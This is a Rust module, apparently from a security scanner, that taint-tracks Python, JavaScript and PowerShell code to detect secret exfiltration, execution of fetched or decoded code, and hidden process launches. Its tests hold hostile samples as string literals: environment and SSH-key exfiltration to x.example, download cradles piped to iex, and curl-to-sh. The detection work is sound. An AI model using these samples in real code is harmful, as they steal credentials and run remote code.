//! Effects of a Python, JavaScript, TypeScript or PowerShell program: one taint walk over the
//! syntax tree, with a table of each grammar's node kinds ([`Kinds`]). A value carries what it
//! was computed from (the union of its parts: coarse, and safe for a judgement that needs a
//! secret source and a network sink in one expression or through variables); assignments and
//! loop variables carry it to later uses, over two passes so a function defined before the
//! variables it reads still sees them.

use std::collections::HashMap;
use std::ops::Range;

use tree_sitter::Node;

use super::vocab::{self, Taint};
use super::{Effect, EffectKind, Language};

/// Nodes visited per program at most (a larger tree is judged on its first nodes).
const MAX_NODES: usize = 200_000;

/// The node kinds of one grammar that the walk treats specially.
struct Kinds {
    /// Calls: (kind, field of the callee).
    calls: &'static [(&'static str, &'static str)],
    /// Assignments: (kind, field of the target, field of the value); `""` for "first/last
    /// named child".
    assigns: &'static [(&'static str, &'static str, &'static str)],
    /// Variable reads.
    names: &'static [&'static str],
    /// String literals.
    strings: &'static [&'static str],
}

const PYTHON: Kinds = Kinds {
    calls: &[("call", "function")],
    assigns: &[
        ("assignment", "left", "right"),
        ("augmented_assignment", "left", "right"),
        ("for_statement", "left", "right"),
        ("for_in_clause", "left", "right"),
        ("named_expression", "name", "value"),
        ("as_pattern", "alias", ""),
    ],
    names: &["identifier"],
    strings: &["string"],
};

const JAVASCRIPT: Kinds = Kinds {
    calls: &[
        ("call_expression", "function"),
        ("new_expression", "constructor"),
    ],
    assigns: &[
        ("variable_declarator", "name", "value"),
        ("assignment_expression", "left", "right"),
        ("augmented_assignment_expression", "left", "right"),
        ("for_in_statement", "left", "right"),
    ],
    names: &["identifier", "shorthand_property_identifier"],
    strings: &["string", "template_string"],
};

const POWERSHELL: Kinds = Kinds {
    calls: &[("command", "command_name"), ("invokation_expression", "")],
    assigns: &[("assignment_expression", "", "value")],
    names: &["variable"],
    strings: &["string_literal", "generic_token"],
};

fn kinds(lang: Language) -> &'static Kinds {
    match lang {
        Language::Python => &PYTHON,
        Language::PowerShell => &POWERSHELL,
        _ => &JAVASCRIPT,
    }
}

/// A value's taint and the bytes where its first source was read.
#[derive(Debug, Clone, Default)]
struct Val {
    taint: Taint,
    source: Option<Range<usize>>,
}

impl Val {
    fn add(&mut self, o: &Val) {
        if self.source.is_none() && o.taint != 0 {
            self.source.clone_from(&o.source);
        }
        self.taint |= o.taint;
    }

    fn of(taint: Taint, at: Range<usize>) -> Val {
        Val {
            taint,
            source: (taint != 0).then_some(at),
        }
    }
}

/// The effects of `text` read as `lang` (not shell).
pub fn effects(lang: Language, text: &str) -> Vec<Effect> {
    let Some(tree) = crate::program::parse(lang, text) else {
        return Vec::new();
    };
    let src = crate::program::bounded(text);
    let mut w = Walk {
        lang,
        kinds: kinds(lang),
        src,
        vars: HashMap::new(),
        out: Vec::new(),
        record: false,
        nodes: 0,
        downloaded: false,
        returns: HashMap::new(),
        in_function: Vec::new(),
        depth: 0,
    };
    w.visit(tree.root_node(), &Val::default());
    w.record = true;
    w.nodes = 0;
    w.downloaded = false;
    w.visit(tree.root_node(), &Val::default());
    let mut out = w.out;
    if lang == Language::PowerShell {
        hidden_start_after_download(src, &mut out);
    }
    out.sort_by_key(|e| (e.at.start, e.at.end));
    out.dedup_by(|a, b| a.kind == b.kind && a.at == b.at);
    out
}

struct Walk<'t> {
    lang: Language,
    kinds: &'static Kinds,
    src: &'t str,
    vars: HashMap<String, Val>,
    out: Vec<Effect>,
    /// The second pass records effects; the first only learns the variables.
    record: bool,
    nodes: usize,
    /// A file was downloaded earlier in the program (for a hidden process started later).
    downloaded: bool,
    /// What each function defined in the program returns (by name, lower case).
    returns: HashMap<String, Val>,
    /// The function being read.
    in_function: Vec<String>,
    /// How deep the walk is.
    depth: usize,
}

impl Walk<'_> {
    fn text(&self, n: Node<'_>) -> &str {
        self.src.get(n.byte_range()).unwrap_or("")
    }

    fn compact(&self, n: Node<'_>) -> String {
        self.text(n)
            .chars()
            .filter(|c| !c.is_whitespace())
            .collect::<String>()
            .to_ascii_lowercase()
    }

    fn push(
        &mut self,
        kind: EffectKind,
        at: Range<usize>,
        source: Option<Range<usize>>,
        what: &str,
    ) {
        if self.record {
            let source = source.filter(|s| *s != at && !(s.start >= at.start && s.end <= at.end));
            self.out.push(Effect {
                kind,
                at,
                source,
                what: what.chars().take(60).collect(),
            });
        }
    }

    /// The value of `n`; `pipe` is what a PowerShell pipeline feeds it.
    fn visit(&mut self, n: Node<'_>, pipe: &Val) -> Val {
        self.nodes += 1;
        if self.nodes > MAX_NODES || self.depth >= crate::program::shell::MAX_DEPTH {
            return Val::default();
        }
        self.depth += 1;
        let v = self.visit_in(n, pipe);
        self.depth -= 1;
        v
    }

    fn visit_in(&mut self, n: Node<'_>, pipe: &Val) -> Val {
        let kind = n.kind();
        if let Some(v) = self.env_read(n) {
            return v;
        }
        if self.kinds.strings.contains(&kind) {
            let t = self.text(n);
            let mut taint = 0;
            if t.len() < 4096
                && vocab::is_credential_path(t.trim_matches(|c| matches!(c, '"' | '\'' | '`')))
            {
                taint |= vocab::CREDENTIAL_FILE;
            }
            if vocab::is_metadata_host(t) {
                taint |= vocab::METADATA;
            }
            let mut v = Val::of(taint, n.byte_range());
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let cv = self.visit(child, &Val::default());
                v.add(&cv);
            }
            return v;
        }
        if self.kinds.names.contains(&kind) && n.named_child_count() == 0 {
            let name = self.text(n).to_ascii_lowercase();
            return self.vars.get(&name).cloned().unwrap_or_default();
        }
        if matches!(
            kind,
            "function_definition"
                | "function_declaration"
                | "method_definition"
                | "function_statement"
        ) {
            let name = n
                .child_by_field_name("name")
                .or_else(|| first_named(n))
                .map(|x| self.text(x).to_ascii_lowercase())
                .unwrap_or_default();
            self.in_function.push(name);
            let mut v = Val::default();
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let cv = self.visit(child, &Val::default());
                v.add(&cv);
            }
            self.in_function.pop();
            return Val::default();
        }
        if kind == "return_statement" {
            let mut v = Val::default();
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let cv = self.visit(child, &Val::default());
                v.add(&cv);
            }
            if let Some(f) = self.in_function.last().cloned() {
                self.returns.entry(f).or_default().add(&v);
            }
            return v;
        }
        if let Some(&(_, target, value)) = self.kinds.assigns.iter().find(|(k, _, _)| *k == kind) {
            return self.assign(n, target, value);
        }
        if self.lang == Language::PowerShell && matches!(kind, "pipeline" | "pipeline_chain") {
            let mut prev = pipe.clone();
            let mut all = Val::default();
            let mut c = n.walk();
            for child in n.named_children(&mut c) {
                let v = self.visit(child, &prev);
                all.add(&v);
                prev = v;
            }
            return prev_or(all, prev);
        }
        if let Some(&(_, field)) = self.kinds.calls.iter().find(|(k, _)| *k == kind) {
            return self.call(n, field, pipe);
        }
        let mut v = Val::default();
        let mut c = n.walk();
        for child in n.named_children(&mut c) {
            let cv = self.visit(child, &Val::default());
            v.add(&cv);
        }
        v
    }

    /// An environment read: the whole environment, or one variable (a secret only when its
    /// name says so).
    fn env_read(&mut self, n: Node<'_>) -> Option<Val> {
        let kind = n.kind();
        if !matches!(
            kind,
            "attribute"
                | "subscript"
                | "member_expression"
                | "subscript_expression"
                | "call"
                | "call_expression"
                | "variable"
                | "command"
                | "invokation_expression"
        ) {
            return None;
        }
        let t = self.compact(n);
        if t.len() > 200 {
            return None;
        }
        let whole = [
            "os.environ",
            "os.environ.items()",
            "os.environ.copy()",
            "os.environ.keys()",
            "os.environ.values()",
            "dict(os.environ)",
            "process.env",
            "deno.env.toobject()",
            "[environment]::getenvironmentvariables()",
        ];
        if whole.contains(&t.as_str())
            || kind == "command"
                && matches!(
                    t.as_str(),
                    "get-childitemenv:"
                        | "gcienv:"
                        | "lsenv:"
                        | "direnv:"
                        | "get-itemenv:*"
                        | "get-childitemenv:*"
                )
        {
            return Some(Val::of(vocab::ENVIRONMENT, n.byte_range()));
        }
        let named = [
            "os.environ[",
            "os.environ.get(",
            "os.getenv(",
            "process.env.",
            "process.env[",
            "$env:",
            "deno.env.get(",
        ];
        if let Some(p) = named.iter().find(|p| t.starts_with(**p)) {
            let secret = vocab::is_secret_name(&t[p.len()..]);
            return Some(if secret {
                Val::of(vocab::NAMED_SECRET, n.byte_range())
            } else {
                Val::default()
            });
        }
        None
    }

    fn assign(&mut self, n: Node<'_>, target: &str, value: &str) -> Val {
        let value_node = if value.is_empty() {
            first_named(n)
        } else {
            n.child_by_field_name(value)
        };
        let target_node = if target.is_empty() {
            first_named(n)
        } else {
            n.child_by_field_name(target)
        };
        let v = value_node
            .map(|x| self.visit(x, &Val::default()))
            .unwrap_or_default();
        if let Some(t) = target_node {
            let mut names = Vec::new();
            collect_names(t, self.kinds.names, self.src, &mut names);
            for name in names {
                let slot = self.vars.entry(name).or_default();
                slot.add(&v);
            }
        }
        // A loop's body (and anything else beside the target and the value) is read too.
        let skip = [target_node.map(|x| x.id()), value_node.map(|x| x.id())];
        let mut c = n.walk();
        let rest: Vec<Node<'_>> = n
            .named_children(&mut c)
            .filter(|ch| !skip.contains(&Some(ch.id())))
            .collect();
        for child in rest {
            self.visit(child, &Val::default());
        }
        v
    }

    fn call(&mut self, n: Node<'_>, field: &str, pipe: &Val) -> Val {
        let callee_node = if field.is_empty() {
            None
        } else {
            n.child_by_field_name(field)
        };
        let callee = match callee_node {
            Some(c) => self.compact(c),
            None => self.invoked(n),
        };
        let callee = callee.trim_start_matches("await").to_string();
        let last = callee
            .rsplit(['.', ':'])
            .next()
            .unwrap_or(&callee)
            .to_string();
        // Everything under the call: arguments, the object a method is called on.
        let mut args = pipe.clone();
        let mut c = n.walk();
        for child in n.named_children(&mut c) {
            let v = self.visit(child, &Val::default());
            args.add(&v);
        }
        // A function of the program returns what its `return`s carry; a variable holding a
        // function, what it was built from.
        if let Some(r) = self.returns.get(&callee) {
            args.add(&r.clone());
        } else if let Some(v) = self.vars.get(&callee) {
            args.add(&v.clone());
        }
        let at = n.byte_range();
        let text = self.text(n).to_string();
        let lower = text.to_ascii_lowercase();
        let mut out = args.clone();
        let network = is_network_call(&callee, &last);
        if network {
            out.add(&Val::of(vocab::FETCHED, at.clone()));
            if vocab::is_metadata_host(&lower) {
                self.push(EffectKind::MetadataRead, at.clone(), None, &callee);
                out.add(&Val::of(vocab::METADATA, at.clone()));
            }
            let own_metadata_only = args.taint & vocab::STRONG_SECRET == vocab::METADATA
                && vocab::is_metadata_host(&lower);
            let strong = args.taint & vocab::STRONG_SECRET;
            let weak = args.taint & vocab::NAMED_SECRET;
            if strong != 0 && !own_metadata_only || weak != 0 && vocab::is_drop_or_lookalike(&lower)
            {
                let t = if strong != 0 { strong } else { weak };
                self.push(
                    EffectKind::Exfiltrate { taint: t },
                    at.clone(),
                    args.source.clone(),
                    &callee,
                );
            }
            if lower.contains("-outfile") || last == "downloadfile" || last == "urlretrieve" {
                self.downloaded = true;
            }
        }
        if is_decode_call(&callee, &last, &lower) {
            out.add(&Val::of(vocab::DECODED, at.clone()));
        }
        if is_exec_call(&callee, &last) {
            if args.taint & vocab::FETCHED != 0 && !network {
                self.push(
                    EffectKind::RunFetched,
                    at.clone(),
                    args.source.clone(),
                    &callee,
                );
            } else if args.taint & vocab::DECODED != 0 {
                self.push(
                    EffectKind::RunDecoded,
                    at.clone(),
                    args.source.clone(),
                    &callee,
                );
            }
            // A command line given as one literal string is read as shell.
            let args_text = n
                .child_by_field_name("arguments")
                .map_or(text.as_str(), |a| {
                    self.src.get(a.byte_range()).unwrap_or("")
                });
            if let Some(cmdline) = literal_command(args_text) {
                for e in super::shell::effects(&crate::program::shell::read(&cmdline)) {
                    self.push(e.kind, at.clone(), None, &e.what);
                }
            }
        }
        if self.lang == Language::PowerShell && n.kind() == "command" {
            let words: Vec<String> = text
                .split_whitespace()
                .map(|w| w.trim_matches(|c| c == '"' || c == '\'').to_string())
                .collect();
            for e in super::shell::command_effects(words, at.clone()) {
                self.push(e.kind, e.at, None, &e.what);
            }
        }
        if matches!(callee.as_str(), "start-process" | "saps" | "start")
            && lower.contains("hidden")
            && self.downloaded
        {
            self.push(
                EffectKind::RunFetched,
                at.clone(),
                None,
                "Start-Process -WindowStyle Hidden",
            );
        }
        out
    }

    /// The callee of a PowerShell method call: the text up to its member name
    /// (`[convert]::frombase64string`, `(new-objectnet.webclient).downloadstring`).
    fn invoked(&self, n: Node<'_>) -> String {
        let mut c = n.walk();
        let member = n
            .named_children(&mut c)
            .filter(|ch| ch.kind() == "member_name")
            .last();
        match member {
            Some(m) => self
                .src
                .get(n.start_byte()..m.end_byte())
                .unwrap_or("")
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
                .to_ascii_lowercase(),
            None => self.compact(n),
        }
    }
}

/// A process started in a hidden window after a file was downloaded to disk
/// (`Invoke-WebRequest -OutFile`, `.DownloadFile`): read line by line, since such one-liners
/// often hold paths the grammar does not parse (`$env:TEMP\\p.zip`).
fn hidden_start_after_download(src: &str, out: &mut Vec<Effect>) {
    let mut downloaded = false;
    let mut at = 0;
    for line in src.split_inclusive('\n') {
        let l = line.to_ascii_lowercase();
        if (l.contains("invoke-webrequest")
            || l.contains("iwr ")
            || l.contains("curl ")
            || l.contains("wget ")
            || l.contains("start-bitstransfer"))
            && (l.contains("-outfile") || l.contains("-destination") || l.contains(" -o "))
            || l.contains("downloadfile(")
        {
            downloaded = true;
        }
        if downloaded
            && (l.contains("start-process") || l.contains("saps "))
            && l.contains("hidden")
        {
            let start = at
                + l.find("start-process")
                    .or_else(|| l.find("saps "))
                    .unwrap_or(0);
            let end = at + line.trim_end().len();
            if !out.iter().any(|e| {
                e.kind == EffectKind::RunFetched && e.at.start <= start && start < e.at.end
            }) {
                out.push(Effect {
                    kind: EffectKind::RunFetched,
                    at: start..end.max(start),
                    source: None,
                    what: "Start-Process -WindowStyle Hidden".to_string(),
                });
            }
        }
        at += line.len();
    }
}

fn prev_or(all: Val, prev: Val) -> Val {
    if prev.taint != 0 { prev } else { all }
}

fn first_named(n: Node<'_>) -> Option<Node<'_>> {
    let mut c = n.walk();
    n.named_children(&mut c).next()
}

fn collect_names(n: Node<'_>, names: &[&str], src: &str, out: &mut Vec<String>) {
    if names.contains(&n.kind()) {
        out.push(src.get(n.byte_range()).unwrap_or("").to_ascii_lowercase());
    }
    let mut c = n.walk();
    for child in n.named_children(&mut c) {
        collect_names(child, names, src, out);
    }
}

/// Calls that send or fetch over the network, by the callee's dotted name and its last part.
fn is_network_call(callee: &str, last: &str) -> bool {
    let roots = [
        "requests.",
        "httpx.",
        "aiohttp.",
        "urllib",
        "urllib3",
        "http.client",
        "axios",
        "got",
        "superagent",
        "needle",
        "node-fetch",
        "undici",
        "dns.",
        "socket.",
        "smtplib",
        "ftplib",
        "$http",
        "net.",
    ];
    matches!(
        last,
        "urlopen"
            | "fetch"
            | "sendbeacon"
            | "sendall"
            | "sendto"
            | "sendmail"
            | "send_message"
            | "urlretrieve"
            | "uploadstring"
            | "uploaddata"
            | "uploadfile"
            | "uploadvalues"
            | "downloadstring"
            | "downloaddata"
            | "downloadfile"
            | "openread"
            | "gethostbyname"
            | "getaddrinfo"
            | "resolve"
            | "resolve4"
            | "resolvetxt"
            | "lookup"
            | "invoke-restmethod"
            | "invoke-webrequest"
            | "irm"
            | "iwr"
            | "send-mailmessage"
            | "resolve-dnsname"
            | "curl"
            | "wget"
    ) || matches!(callee, "axios" | "got" | "request" | "fetch")
        || roots.iter().any(|r| callee.starts_with(r))
            && matches!(
                last,
                "post"
                    | "put"
                    | "patch"
                    | "get"
                    | "request"
                    | "send"
                    | "connect"
                    | "create_connection"
                    | "urlopen"
                    | "resolve"
                    | "lookup"
                    | "stream"
            )
        || matches!(last, "post" | "put" | "patch") && callee.contains('.')
}

/// Calls that run text as code (or a command line).
fn is_exec_call(callee: &str, last: &str) -> bool {
    matches!(
        callee,
        "eval"
            | "exec"
            | "compile"
            | "function"
            | "execsync"
            | "execfile"
            | "spawnsync"
            | "spawn"
            | "os.system"
            | "os.popen"
            | "os.startfile"
            | "invoke-expression"
            | "iex"
            | "runpy.run_path"
            | "start-process"
            | "saps"
            | "&"
            | "setTimeout"
    ) || callee.starts_with("subprocess.")
        || callee.starts_with("child_process.")
        || callee.starts_with("vm.")
        || callee.ends_with("[scriptblock]::create")
        || matches!(
            last,
            "runinnewcontext"
                | "runinthiscontext"
                | "runincontext"
                | "check_output"
                | "check_call"
                | "popen"
                | "execsync"
                | "exec"
                | "execfile"
                | "execfilesync"
                | "spawn"
                | "spawnsync"
        )
}

/// Calls that decode base64 or hex (their result is decoded text).
fn is_decode_call(callee: &str, last: &str, text: &str) -> bool {
    matches!(
        last,
        "b64decode"
            | "decodebytes"
            | "a85decode"
            | "b32decode"
            | "unhexlify"
            | "fromhex"
            | "atob"
            | "frombase64string"
            | "decompress"
    ) || callee == "buffer.from"
        && (text.contains("'base64'")
            || text.contains("\"base64\"")
            || text.contains("'hex'")
            || text.contains("\"hex\""))
}

/// The command line a call gives as one string literal (`os.system("curl ... | sh")`,
/// `subprocess.run("...", shell=True)`, `execSync('...')`).
fn literal_command(args: &str) -> Option<String> {
    let rest = args.trim_start().trim_start_matches('(').trim_start();
    let q = rest.chars().next()?;
    if !matches!(q, '"' | '\'' | '`') {
        return None;
    }
    let body = &rest[1..];
    let end = body.find(q)?;
    let s = &body[..end];
    (s.contains(' ') && s.len() < 4096).then(|| s.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds_of(lang: Language, text: &str) -> Vec<String> {
        effects(lang, text)
            .iter()
            .map(|e| match &e.kind {
                EffectKind::Exfiltrate { .. } => format!("exfil:{}", e.what),
                k => format!("{k:?}"),
            })
            .collect()
    }

    #[test]
    fn python_collects_secret_variables_and_posts_them() {
        let text = "import os, requests\ndata = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://x.example/c', json=data)\n";
        let e = effects(Language::Python, text);
        assert_eq!(e.len(), 1, "{e:?}");
        assert_eq!(
            &text[e[0].at.clone()],
            "requests.post('https://x.example/c', json=data)"
        );
        assert_eq!(
            e[0].source.as_ref().map(|s| &text[s.clone()]),
            Some("os.environ.items()")
        );
        assert_eq!(
            kinds_of(
                Language::Python,
                "from urllib.request import urlopen\nexec(urlopen('https://x.example/p').read())\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::Python,
                "import base64\nexec(base64.b64decode(B))\n"
            ),
            ["RunDecoded"]
        );
        assert_eq!(
            kinds_of(
                Language::Python,
                "from pathlib import Path\nimport requests\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post(U, data=key)\n"
            ),
            ["exfil:requests.post"]
        );
    }

    #[test]
    fn deep_nesting_is_read_to_a_bound_without_exhausting_the_stack() {
        let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
        assert!(kinds_of(Language::Python, &deep).is_empty());
        let deep = format!("{}1{}\n", "[".repeat(50_000), "]".repeat(50_000));
        assert!(kinds_of(Language::JavaScript, &deep).is_empty());
    }

    #[test]
    fn a_function_returns_what_it_collected() {
        let text = "import os, requests\n\ndef collect():\n    found = {}\n    for name, value in os.environ.items():\n        if 'KEY' in name:\n            found[name] = value\n    return found\n\nrequests.post('https://x.example/in', json={'ctx': collect()})\n";
        assert_eq!(kinds_of(Language::Python, text), ["exfil:requests.post"]);
    }

    #[test]
    fn python_benign_helpers_do_nothing() {
        for text in [
            "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.com/v1/responses', headers={'Authorization': f'Bearer {key}'}, json={'input': 'hi'})\nprint(r.json())\n",
            "import json, urllib.request\nwith urllib.request.urlopen('https://api.example.com/data.json') as r:\n    data = json.load(r)\nprint(data['name'])\n",
            "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)\n",
        ] {
            assert!(
                kinds_of(Language::Python, text).is_empty(),
                "{text}: {:?}",
                kinds_of(Language::Python, text)
            );
        }
    }

    #[test]
    fn javascript_env_filter_posted_and_fetched_code_evaluated() {
        let text = "const data = Object.entries(process.env).filter(([k]) => /KEY|TOKEN/.test(k));\nawait fetch('https://x.example', {method: 'POST', body: JSON.stringify(data)});\n";
        assert_eq!(kinds_of(Language::JavaScript, text), ["exfil:fetch"]);
        assert_eq!(
            kinds_of(
                Language::JavaScript,
                "eval(await (await fetch(u)).text());\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::TypeScript,
                "const code: string = await (await fetch(u)).text();\nnew Function(code)();\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::JavaScript,
                "require('child_process').execSync('curl -s https://x.example/i | sh');\n"
            ),
            ["RunFetched"]
        );
        assert!(kinds_of(Language::TypeScript, "const started = Date.now();\nconst res = await fetch(`https://api.github.com/repos/${repo}`, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\nconsole.log(Date.now() - started);\n").is_empty());
    }

    #[test]
    fn powershell_download_cradles_env_dumps_and_hidden_starts() {
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "$c = (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1'); iex $c\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(Language::PowerShell, "iwr http://x.example/a.ps1 | iex\n"),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "$e = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri 'https://x.example' -Method Post -Body $e\n"
            ),
            ["exfil:invoke-restmethod"]
        );
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\n"
            ),
            ["RunDecoded"]
        );
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "iwr https://x.example/p.zip -OutFile $env:TEMP\\p.zip\nExpand-Archive $env:TEMP\\p.zip $env:TEMP\\p\nStart-Process -WindowStyle Hidden $env:TEMP\\p\\run.exe\n"
            ),
            ["RunFetched"]
        );
        assert!(kinds_of(Language::PowerShell, "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nGet-FileHash tool.zip\n").is_empty());
    }
}
